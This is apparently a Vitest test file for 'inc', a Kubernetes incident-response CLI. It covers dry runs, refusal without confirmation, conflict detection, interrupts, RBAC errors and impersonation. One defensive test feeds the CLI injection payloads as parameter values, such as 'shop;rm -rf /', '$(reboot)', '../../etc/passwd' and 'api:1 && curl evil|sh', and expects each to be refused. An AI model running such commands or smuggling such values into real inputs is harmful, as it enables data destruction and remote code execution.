import { spawn } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INC_BIN } from '../helpers/run-inc.js';
import { actionEvents, desiredState, expectExit, openSimWorld, type SimWorld, writes } from './playbooks-sim.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/playbooks/', import.meta.url));
/** The bad-deploy scenario's mitigation. */
const ROLLBACK_API = ['run', 'rollback', '-n', 'payments', '--set', 'deployment=api'];

describe('inc run refuses before any change', () => {
  let world: SimWorld;
  beforeAll(async () => {
    world = await openSimWorld('bad-deploy');
  });
  afterAll(async () => world.close());

  /** Runs inc and checks that it sent no request that writes (not even a dry run) and nothing changed. */
  async function expectNothingChanged(
    run: () => Promise<{ code: number | null; stderr: string }>,
    allowDryRuns = false,
  ): Promise<string> {
    const before = desiredState(world.sim);
    world.requests.length = 0;
    const result = await run();
    const sent = writes(world.requests);
    if (allowDryRuns) expect(sent.filter((r) => !r.path.includes('dryRun=All'))).toEqual([]);
    else expect(sent).toEqual([]);
    expect(desiredState(world.sim)).toEqual(before);
    return result.stderr;
  }

  it('without a terminal and without --yes: exit 2 naming --yes, nothing changed', async () => {
    let code: number | null = null;
    const stderr = await expectNothingChanged(async () => {
      const result = await world.inc(['run', 'rollback', '-n', 'payments', '--set', 'deployment=api']);
      code = result.code;
      return result;
    });
    expect(code).toBe(2);
    expect(stderr).toContain('--yes');
  });

  it('--dry-run shows the diff and the server dry run, exits 0 and changes nothing', async () => {
    let stdout = '';
    let stderr = '';
    await expectNothingChanged(async () => {
      const result = await world.inc(['run', 'rollback', '-n', 'payments', '--set', 'deployment=api', '--dry-run']);
      expect(result.code).toBe(0);
      stdout = result.stdout;
      stderr = result.stderr;
      return result;
    }, true);
    // Nothing was mitigated, so the check after a mitigation neither waits for its signals nor reports them.
    expect(stdout).toContain('check (triage): skipped — skipped in a dry run');
    expect(stderr).not.toContain('since the mitigation completed');
    expect(stdout).toContain('roll back deployment payments/api from revision 2 to revision 1');
    expect(stdout).toContain('-        - image: registry.example.com/payments/api:2.3.1');
    expect(stdout).toContain('+        - image: registry.example.com/payments/api:2.3.0');
    expect(stdout).toContain('server-side dry run: passed');
    expect(stdout).toContain('nothing was changed');

    const json = await world.inc([...ROLLBACK_API, '--dry-run', '-o', 'json']);
    expectExit(json, 0);
    const result = JSON.parse(json.stdout) as {
      status: string;
      steps: { id: string; status: string; plan?: { diff: string[] } }[];
    };
    expect(result.status).toBe('planned');
    const undo = result.steps.find((step) => step.id === 'undo');
    expect(undo?.status).toBe('planned');
    expect(undo?.plan?.diff).toContain('+        - image: registry.example.com/payments/api:2.3.0');
  });

  /** Runs the cases a few at a time (each is a process); every one must exit 2 with no write sent. */
  async function expectAllRefused(cases: readonly (readonly string[])[]): Promise<string[]> {
    const stderrs: string[] = [];
    await expectNothingChanged(async () => {
      const queue = cases.map((args, index) => ({ args, index }));
      const worker = async () => {
        for (let next = queue.shift(); next; next = queue.shift()) {
          const result = await world.inc([...next.args, '--yes']);
          expect({ args: next.args, code: result.code }).toEqual({ args: next.args, code: 2 });
          stderrs[next.index] = result.stderr;
        }
      };
      await Promise.all([worker(), worker(), worker(), worker()]);
      return { code: 2, stderr: '' };
    });
    return stderrs;
  }

  it('refuses every malformed playbook of the corpus with exit 2, naming file:line:col', async () => {
    const corpus = readdirSync(FIXTURES)
      .filter((f) => f.endsWith('.yaml'))
      .sort();
    expect(corpus.length).toBeGreaterThanOrEqual(12);
    const stderrs = await expectAllRefused(corpus.map((file) => ['run', join(FIXTURES, file)]));
    corpus.forEach((file, index) => {
      expect(stderrs[index]).toMatch(new RegExp(`${file.replace('.', '\\.')}(:\\d+:\\d+)?: `));
    });
  });

  it('refuses invalid parameters (injection attempts included) with exit 2', async () => {
    const badParams: string[][] = [
      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=shop;rm -rf /'],
      ['rollback', '--set', 'namespace=payments;rm -rf /', '--set', 'deployment=api'],
      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=../../etc/passwd'],
      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api\nevil'],
      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=$(reboot)'],
      ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker', '--set', 'replicas=-1'],
      ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker', '--set', 'replicas=3;reboot'],
      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'timeout=forever'],
      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'force=true'],
      [
        'pin-image',
        '--set',
        'namespace=payments',
        '--set',
        'deployment=api',
        '--set',
        'container=api',
        '--set',
        'image=api:1 && curl evil|sh',
      ],
      ['feature-flag', '--set', 'url=file:///etc/passwd'],
      ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker'],
      ['rollbak', '--set', 'deployment=api'],
    ];
    const stderrs = await expectAllRefused(badParams.map((args) => ['run', ...args]));
    for (const stderr of stderrs) expect(stderr).toMatch(/inc: error: /);
    expect(stderrs[0]).toContain('invalid value for parameter "deployment"');
  });

  it('an unknown parameter lists the known ones', async () => {
    const result = await world.inc(['run', 'scale', '--set', 'replica=3', '--yes']);
    expect(result.stderr).toContain('playbook scale has no parameter "replica"');
    expect(result.stderr).toContain(
      'parameters: namespace, deployment, kind, statefulset, replicas, currentReplicas, timeout',
    );
  });
});

describe('a concurrent change between plan and apply', () => {
  let world: SimWorld;
  beforeAll(async () => {
    world = await openSimWorld('bad-deploy');
  });
  afterAll(async () => world.close());

  it('is reported as a 409 conflict and not overwritten', async () => {
    const pause = join(world.home, 'pause');
    const running = world.inc(['run', 'rollback', '-n', 'payments', '--set', 'deployment=api', '--yes'], {
      INC_TEST_PAUSE_BEFORE_APPLY: pause,
    });
    const deadline = Date.now() + 20_000;
    while (!existsSync(`${pause}.waiting`) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    expect(existsSync(`${pause}.waiting`)).toBe(true);
    // A teammate changes the deployment in the window between the dry run and the apply.
    const deployment = world.object('Deployment', 'payments', 'api');
    const plannedVersion = deployment.metadata.resourceVersion;
    deployment.metadata.annotations['team/changed-by'] = 'someone-else';
    world.sim.state.update(deployment as never);
    writeFileSync(`${pause}.go`, '');
    const result = await running;

    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      `deployment payments/api changed since the plan (resourceVersion ${plannedVersion} → `,
    );
    expect(result.stderr).toContain('nothing was applied');
    const after = world.object('Deployment', 'payments', 'api');
    expect(after.metadata.annotations['team/changed-by']).toBe('someone-else');
    expect(after.spec.template.spec.containers[0].image).toBe('registry.example.com/payments/api:2.3.1');
  });

  it('goes ahead when only fields the change does not touch moved (a controller updated the status)', async () => {
    const pause = join(world.home, 'pause-status');
    const running = world.inc(['run', 'restart', '-n', 'payments', '--set', 'deployment=worker', '--yes'], {
      INC_TEST_PAUSE_BEFORE_APPLY: pause,
    });
    const deadline = Date.now() + 20_000;
    while (!existsSync(`${pause}.waiting`) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    expect(existsSync(`${pause}.waiting`)).toBe(true);
    const deployment = world.object('Deployment', 'payments', 'worker');
    const plannedVersion = deployment.metadata.resourceVersion;
    deployment.status = { ...deployment.status, observedGeneration: (deployment.status?.observedGeneration ?? 0) + 0 };
    deployment.metadata.labels = { ...deployment.metadata.labels, 'status-churn': 'yes' };
    world.sim.state.update(deployment as never);
    expect(world.object('Deployment', 'payments', 'worker').metadata.resourceVersion).not.toBe(plannedVersion);
    writeFileSync(`${pause}.go`, '');
    const result = await running;
    expect(result.code, result.stderr).toBe(0);
    const after = world.object('Deployment', 'payments', 'worker');
    expect(after.spec.template.metadata.annotations['kubectl.kubernetes.io/restartedAt']).toBeDefined();
  });
});

describe('Ctrl-C', () => {
  let world: SimWorld;
  beforeAll(async () => {
    world = await openSimWorld('bad-deploy');
  });
  afterAll(async () => world.close());

  /** Runs inc, sends Ctrl-C (SIGINT) once `ready` says so, and returns its exit code and stderr. */
  async function interruptWhen(
    args: readonly string[],
    ready: (stderr: string) => boolean,
    extraEnv: Record<string, string> = {},
  ): Promise<{ code: number | null | 'hung'; stderr: string }> {
    const child = spawn(process.execPath, [INC_BIN, ...args], {
      cwd: world.home,
      env: { ...process.env, ...world.env, NO_COLOR: '1', TERM: 'dumb', ...extraEnv },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    const exited = new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
    const deadline = Date.now() + 20_000;
    while (!ready(stderr) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    child.kill('SIGINT');
    const code = await Promise.race([exited, new Promise<'hung'>((r) => setTimeout(() => r('hung'), 20_000))]);
    if (code === 'hung') child.kill('SIGKILL');
    return { code, stderr };
  }

  it('between the plan and the apply stops cleanly (exit 130), applies nothing and records where it stopped', async () => {
    expectExit(await world.inc(['start', 'api crash-looping', '--severity', 'SEV2']), 0);
    const pause = join(world.home, 'pause-int');
    const before = world.object('Deployment', 'payments', 'api').spec.template;
    const { code, stderr } = await interruptWhen(
      ['run', 'rollback', '-n', 'payments', '--set', 'deployment=api', '--yes'],
      () => existsSync(`${pause}.waiting`),
      { INC_TEST_PAUSE_BEFORE_APPLY: pause },
    );
    expect({ code, stderr }).toMatchObject({ code: 130 });
    expect(stderr).toContain('stopped during step "undo"');
    expect(world.object('Deployment', 'payments', 'api').spec.template).toEqual(before);

    const incidents = readdirSync(join(world.env.INC_HOME as string, 'incidents'));
    const log = readFileSync(
      join(world.env.INC_HOME as string, 'incidents', incidents[0] as string, 'events.jsonl'),
      'utf8',
    );
    const phases = log
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { type: string; data: { phase?: string; step?: string } })
      .filter((e) => e.type === 'action')
      .map((e) => `${e.data.step}:${e.data.phase}`);
    expect(phases).toEqual(['undo:planned', 'undo:stopped']);
  });

  it('during verification counts the change that was applied', async () => {
    // payments/api crash-loops, so the restarted pods never become ready: verification waits.
    const { code, stderr } = await interruptWhen(
      ['run', 'restart', '-n', 'payments', '--set', 'deployment=api', '--yes'],
      (text) => text.includes(': applied'),
    );
    expect({ code, stderr }).toMatchObject({ code: 130 });
    expect(stderr).toContain('stopped during step "restart"; 1 change(s) had been applied');
    expect(stderr).toContain('inc undo');
    expect(world.object('Deployment', 'payments', 'api').spec.template.metadata.annotations).toHaveProperty(
      'kubectl.kubernetes.io/restartedAt',
    );
  });
});

describe('missing permissions', () => {
  it('a forbidden Argo CD Applications list warns and does not block the rollback plan', async () => {
    const world = await openSimWorld('bad-deploy', 60, { forbidden: ['applications'] });
    try {
      const result = await world.inc(['run', 'rollback', '-n', 'payments', '--set', 'deployment=api', '--dry-run']);
      expectExit(result, 0);
      expect(result.stderr).toContain(
        'could not check for Argo CD Applications (forbidden to list applications.argoproj.io)',
      );
    } finally {
      await world.close();
    }
  });

  it('a forbidden deployment read names the missing permission and changes nothing', async () => {
    const world = await openSimWorld('bad-deploy', 60, { forbidden: ['deployments'] });
    try {
      const result = await world.inc([
        'run',
        'scale',
        '-n',
        'payments',
        '--set',
        'deployment=worker',
        '--set',
        'replicas=4',
        '--yes',
      ]);
      expectExit(result, 1);
      expect(result.stderr).toContain(
        '(forbidden): ask for RBAC permission `get` on `deployments` in API group `apps`',
      );
      expect(writes(world.requests)).toEqual([]);
    } finally {
      await world.close();
    }
  });
});

describe('inc run acting as another identity (--as, a break-glass user)', () => {
  let world: SimWorld;
  beforeAll(async () => {
    world = await openSimWorld('bad-deploy');
    expectExit(await world.inc(['start', 'checkout errors', '--severity', 'SEV2']), 0);
  });
  afterAll(async () => world.close());

  it('sends every request as that user and groups, shows it in the banner and records it', async () => {
    world.requests.length = 0;
    const result = await world.inc([
      ...ROLLBACK_API,
      '--dry-run',
      '--as',
      'oncall-admin',
      '--as-group',
      'sre',
      '--as-group',
      'system:authenticated',
    ]);
    expectExit(result, 0);
    expect(result.stderr).toContain('as:        oncall-admin with groups sre, system:authenticated');
    expect(world.requests.length).toBeGreaterThan(0);
    expect(world.requests.filter((r) => r.actingAs !== 'oncall-admin sre system:authenticated')).toEqual([]);
    const planned = actionEvents(world).filter((data) => data.phase === 'planned');
    expect(planned.map((data) => data.actingAs)).toEqual([
      { user: 'oncall-admin', groups: ['sre', 'system:authenticated'] },
    ]);
    const log = await world.inc(['log']);
    expect(log.stdout).toContain('(as oncall-admin with groups sre, system:authenticated)');
  });

  it('the revert line carries the identity; inc undo without it says whom the change was made as', async () => {
    const applied = await world.inc([
      'run',
      'scale',
      '-n',
      'shop',
      '--set',
      'deployment=web',
      '--set',
      'replicas=4',
      '--yes',
      '--as',
      'oncall-admin',
      '--as-group',
      'sre',
    ]);
    expectExit(applied, 0);
    expect(applied.stdout).toMatch(/to revert: inc undo \S+ --as oncall-admin --as-group sre/);
    world.requests.length = 0;
    const undone = await world.inc(['undo', '--yes']);
    expectExit(undone, 0);
    expect(undone.stderr).toContain(
      'was made as oncall-admin with groups sre; if this is refused, add --as oncall-admin --as-group sre',
    );
    expect(writes(world.requests).length).toBeGreaterThan(0);
    expect(world.requests.filter((r) => r.actingAs)).toEqual([]);
  });

  it('triage reads as that identity and its suggested command carries it', async () => {
    world.requests.length = 0;
    const result = await world.inc(['triage', '-n', 'payments', '--as', 'oncall-admin', '--as-group', 'sre']);
    expect(result.stdout).toContain(
      'inc run rollback --set namespace=payments --set deployment=api --as oncall-admin --as-group sre',
    );
    expect(world.requests.filter((r) => r.actingAs !== 'oncall-admin sre')).toEqual([]);
  });

  it('--as-group without --as is a usage error before any request', async () => {
    world.requests.length = 0;
    const result = await world.inc(['triage', '-n', 'payments', '--as-group', 'system:masters']);
    expectExit(result, 2);
    expect(result.stderr).toContain('--as-group needs a user to impersonate');
    expect(result.stderr).toContain('--as USER');
    expect(world.requests).toEqual([]);
  });
});
